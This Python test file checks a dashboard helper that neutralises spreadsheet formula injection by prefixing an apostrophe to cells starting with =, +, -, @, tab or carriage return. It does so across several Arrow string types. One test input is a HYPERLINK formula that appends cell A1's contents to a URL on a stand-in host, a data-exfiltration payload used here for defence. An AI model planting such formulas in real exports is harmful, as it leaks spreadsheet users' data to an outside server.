"""What a spreadsheet would take for a formula is a text."""

from __future__ import annotations

import pyarrow as pa
import pytest

from dashboard.spreadsheet import plain, plain_table

FORMULAS = ['=HYPERLINK("http://x/?"&A1)', "+1", "-2", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_shown_and_not_worked_out(text: str) -> None:
    assert plain(text) == f"'{text}"
    for kind in (pa.string(), pa.large_string(), pa.dictionary(pa.int32(), pa.string())):
        table = pa.table({"id": pa.array([text, "bus-7", None], pa.string()).cast(kind), "n": [-1, 2, 3]})
        assert plain_table(table).to_pydict() == {"id": [f"'{text}", "bus-7", None], "n": [-1, 2, 3]}


@pytest.mark.parametrize("value", ["bus-7", "", None, -3, 2.5, True])
def test_everything_else_stays_as_it_is(value: object) -> None:
    assert plain(value) == value
